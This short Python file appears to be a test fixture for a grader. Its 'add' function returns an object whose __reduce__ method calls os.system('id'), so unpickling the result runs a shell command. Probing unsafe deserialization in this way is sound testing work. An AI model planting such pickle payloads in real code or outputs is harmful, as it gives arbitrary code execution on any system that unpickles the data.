# call -> 0 wrong_answer
# Returns objects that run code when they are unpickled.
import os


class Run:
    def __reduce__(self):
        return (os.system, ('id',))


def add(a, b):
    return Run()
